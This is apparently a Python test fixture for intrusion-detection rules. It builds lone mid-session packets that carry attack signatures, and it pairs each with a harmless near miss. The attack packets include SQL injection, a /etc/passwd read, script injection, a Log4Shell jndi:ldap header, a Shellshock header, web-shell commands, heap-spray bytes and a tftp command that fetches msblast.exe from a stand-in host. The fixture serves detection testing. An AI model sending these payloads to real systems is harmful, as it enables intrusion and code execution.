"""Rows for midstream.rules: one packet each, of sessions whose beginning nobody saw; the same packets as near misses with harmless words."""
from .steps import b, ip4, raw_ip, tcp_segment

PORTS = iter(range(41000, 60000))


def lone(text, sport=None, dport=80):
    """One data segment of an unknown session. Port 9 of the server listens to nobody; its reset is part of the capture."""

    def packet(world):
        return ip4(6, tcp_segment(world.client[1], world.server[1], sport or next(PORTS), dport, 0x18, seq=1000, ack=2000, payload=b(text)))(world)

    return raw_ip(packet)


def request(line, *fields):
    return "\r\n".join([line + " HTTP/1.1", "Host: www.shop.example", *fields]) + "\r\n\r\n"


def web(line, near, fields=(), near_fields=()):
    return lone(request(line, *fields)), lone(request(near, *near_fields))


SESSION = "Cookie: session=Z0Bk54exnUQv49+1gu8QCI+voU8="
GRUNT = "User-Agent: Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36"
TABLE = [
    (1400, *web("GET /item?id=1+union+select+1,2", "GET /search?q=trade+union+selection")),
    (1401, *web("GET /view?page=/etc/passwd", "GET /blog/etc/password.html")),
    (1402, *web("GET /search?q=%3Cscript%3Ex", "GET /search?q=film+script")),
    (1403, *web("GET /", "GET /", ["User-Agent: ${jndi:ldap://198.51.100.7/a}"], ["User-Agent: jndi:ldap"])),
    (1404, *web("GET /", "GET /", ["User-Agent: () { :;}; /bin/id"], ["User-Agent: f() {return}"])),
    (1405, *web("GET /a.php?cmd=whoami", "GET /a.php?cmd=list")),
    (1406, *web("GET /admin/get.php", "GET /admin/get.php", [SESSION], ["Cookie: session=1"])),
    (1407, *web("GET /en-us/docs.html?type=644bbc97e9&v=1", "GET /en-us/docs.html?type=1&v=1", [GRUNT], ["User-Agent: Mozilla/5.0"])),
    (1408, *web("GET /a?f=../../../x", "GET /a?f=../../x")),
    (1409, lone('memberName = "Save"\nprogid = "A.B"\nargCount = 1'), lone("memberName and progid")),
    (1410, lone('c = unescape("%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090")'), lone('c = unescape("%u3042%u3044")')),
    (1411, lone("Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n", dport=4444), lone("Microsoft Windows and (c) the rest", dport=4444)),
    (1412, lone("tftp -i 198.51.100.7 GET msblast.exe\n", dport=4444), lone("tftp -i server\n", dport=4444)),
    (1413, lone(b"HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Length: 17277\r\n\r\n\x3f\x5f\3\0" + b"\0" * 40, sport=80, dport=1043), lone(b"HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Length: 40\r\n\r\n" + b"\0" * 40, sport=80, dport=1044)),
]
